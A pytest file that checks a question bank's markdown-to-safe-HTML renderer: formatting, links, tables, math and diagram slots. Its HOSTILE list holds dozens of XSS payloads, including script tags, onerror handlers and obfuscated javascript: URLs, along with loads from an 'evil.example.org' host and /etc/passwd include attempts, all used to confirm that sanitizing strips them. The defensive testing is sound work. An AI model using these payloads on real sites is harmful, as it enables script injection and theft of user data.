"""Markdown to safe HTML: what it makes of what is allowed, and that nothing else comes through."""

from __future__ import annotations

import pytest

from qbank.markdown_html import MarkdownFault, fill_slots, line_html, section_html, slots
from qbank.sanitize import ROOT, at_page, plain_text
from tests.html_audit import SITE, findings

FOLDER = "questions/rag"


def html(text: str) -> str:
    return section_html(text, FOLDER)


class TestBlocks:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("*a* **b** _c_ a_b_c 2 * 3", "<p><em>a</em> <strong>b</strong> <em>c</em> a_b_c 2 * 3</p>"),
            ("`<b>` &lt; & ©", "<p><code>&lt;b&gt;</code> &lt; &amp; ©</p>"),
            ("### A\n\n#### B", "<h3>A</h3>\n<h4>B</h4>"),
            ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
            ("- a\n    - b", "<ul>\n<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
            ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
            ("---", "<hr>"),
            ("    not code", "<p>not code</p>"),
        ],
    )
    def test_html(self, text, expected):
        assert html(text) == expected

    def test_table_scrolls_and_keeps_alignment(self):
        made = html("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |")
        assert made.startswith('<div class="qb-table" role="group" aria-label="Table" tabindex="0"><table>')
        assert '<th class="qb-left">a</th>\n<th class="qb-right">b</th>\n<th class="qb-center">c</th>' in made
        assert made.endswith("</table></div>")

    def test_code_is_highlighted(self):
        made = html("```python\nx = 1\n```")
        assert '<div class="highlight"><pre>' in made
        assert '<span class="mi">1</span>' in made

    @pytest.mark.parametrize(
        "fence", ["```python runnable", "~~~python runnable", "```python  runnable ", "    ```python runnable"]
    )
    def test_runnable_code_says_so(self, fence):
        closing = fence.strip()[:3]
        indent = fence[: len(fence) - len(fence.lstrip())]
        made = html(f"1. text\n\n{fence}\n{indent}x = 1\n{indent}{closing}\n")
        assert '<span class="filename">Runs as it stands</span>' in made
        assert "runnable" not in made


class TestLinks:
    def test_site_links_begin_with_the_root(self):
        assert html("[a](../agents/loop.md) [b](other.md)") == (
            f'<p><a href="{ROOT}questions/agents/loop.html">a</a> <a href="{ROOT}questions/rag/other.html">b</a></p>'
        )

    def test_web_links(self):
        made = html('[a](https://example.org/x?a=1&b=2 "T") <https://example.org/>')
        assert '<a href="https://example.org/x?a=1&amp;b=2" rel="noopener" title="T">a</a>' in made
        assert '<a href="https://example.org/" rel="noopener">' in made

    def test_pictures(self):
        picture = f'<img loading="lazy" alt="a &gt; b" src="{ROOT}questions/rag/x.svg">'
        assert html("![a > b](x.svg)").replace('alt="a > b"', 'alt="a &gt; b"') == f"<p>{picture}</p>"

    def test_out_of_the_repository(self):
        assert html("[a](../../../etc.md)") == "<p><a>a</a></p>"

    @pytest.mark.parametrize(
        ("page", "expected"),
        [("index.md", "x/y.html"), ("a/b.md", "../x/y.html"), ("questions/a/b.md", "../../x/y.html")],
    )
    def test_at_page(self, page, expected):
        assert at_page(f'<a href="{ROOT}x/y.html">', page) == f'<a href="{expected}">'


class TestLine:
    def test_inline_only(self):
        made = line_html("Why *this*, `that` and **so**?\n[link](https://example.org/) ![p](x.png)")
        assert made == "Why <em>this</em>, <code>that</code> and <strong>so</strong>? link"

    def test_one_line(self):
        assert line_html("a\n\nb") == "a b"


class TestSlots:
    TEXT = "Inline $a<b$ and \\(c\\).\n\n$$\nd & e\n$$\n\n```mermaid\nflowchart TD\n  A --> B\n```\n\n`$not$`"

    def test_found_in_order_with_their_source(self):
        assert slots(html(self.TEXT)) == [
            ("inline", "a<b"),
            ("inline", "c"),
            ("display", "d & e"),
            ("mermaid", "flowchart TD\n  A --> B"),
        ]
        assert slots(line_html("Is $x^2$ large?")) == [("inline", "x^2")]

    def test_filled(self):
        made = fill_slots(
            html(self.TEXT), {("inline", "a<b"): "<math>1</math>", ("mermaid", "flowchart TD\n  A --> B"): "<svg/>"}
        )
        assert "<math>1</math>" in made
        assert "<svg/>" in made
        assert "<code>c</code>" in made  # what was not rendered is shown as it was written
        assert slots(made) == []

    def test_backslashes_in_what_is_filled_in(self):
        assert fill_slots(html("$x$"), {("inline", "x"): r"\1 \g<0>"}) == r"<p>\1 \g<0></p>"


def test_plain_text():
    assert plain_text("<p>a &amp; <em>b</em>\n <math><mi>x</mi><mo>=</mo></math></p>") == "a & b x="


def test_nesting_that_is_too_deep_is_a_fault():
    with pytest.raises(MarkdownFault, match="nested too deep"):
        html("- " * 1_200 + "x")
    assert html("still works") == "<p>still works</p>"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.org/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x.png" onerror="alert(1)">',
    '<img src="https://evil.example.org/x.png">',
    '<img src="//evil.example.org/x.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="../other/x.png">',
    '<img srcset="//evil.example.org/x.png 2x" src="x.png">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='//evil.example.org/'>x</a>",
    "<a href='\\\\evil.example.org/'>x</a>",
    "<a href='/\\evil.example.org/'>x</a>",
    "<a href='http://evil.example.org/'>x</a>",
    "<a href='qb-root:/../../x.md'>x</a>",
    "<a href='x.md' onclick='alert(1)' style='position:fixed' target=_blank>x</a>",
    "<a href='https://x\"onmouseover=alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example.org/x.md)",
    "[x](https:evil.example.org)",
    "[x](https:///evil.example.org)",
    "[x](\\\\evil.example.org\\x.md)",
    "[x](https://example.org/ \"' onmouseover=alert(1) x='\")",
    '[x](https://example.org/"onmouseover=alert(1))',
    "![x](https://evil.example.org/x.png)",
    "![x](//evil.example.org/x.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x.png)',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a@b.example.org>",
    "text {: onclick=alert(1) }",
    "# x {: #id onclick=alert(1) }",
    "<style>@import 'https://evil.example.org/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example.org/x.css>",
    "<base href=https://evil.example.org/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org/'>",
    "<form action=https://evil.example.org/><input type=submit formaction=javascript:alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onpointerenter=alert(1) class='qb-mermaid' id=x style='x'>y</div>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<!-- comment --><!DOCTYPE html><?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "<p><style><!--</style><img src=x onerror=alert(1)>--></p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><textarea><script>alert(1)</script>",
    "`<script>alert(1)</script>` and ``<img src=x onerror=alert(1)>``",
    "```html\n<script>alert(1)</script>\n```",
    '```python title="<script>alert(1)</script>"\nx\n```',
    "```mermaid\n</div><script>alert(1)</script>\n```",
    "$</span><script>alert(1)</script>$",
    "$$\n</div><img src=x onerror=alert(1)>\n$$",
    '<span class="arithmatex">\\(<img src=x onerror=alert(1)>\\)</span>',
    '<div class="arithmatex qb-evil highlight">x</div>',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<table background=//evil.example.org/x><td style=x>y</table></table></div>",
    "--8<-- '/etc/passwd'",
    "{{ config }} {% include '/etc/passwd' %}",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_does_nothing(text):
    assert findings(html(text)) == []
    assert findings(html(f"- a\n\n    > {text}")) == []
    assert findings(line_html(text), inline=True) == []


def test_the_audit_sees_what_is_wrong():
    assert findings('<p onclick="x">') == ["p onclick"]
    assert findings("<script>") == ["<script>"]
    assert findings('<a href="javascript:x">') == ["a href=javascript:x"]
    assert findings('<img src="https://example.org/x.png">') == ["img src=https://example.org/x.png"]
    assert findings("<!-- x -->") == ["comment  x "]
    assert findings("<p>x</p>", inline=True) == ["<p>"]
    assert SITE == ROOT
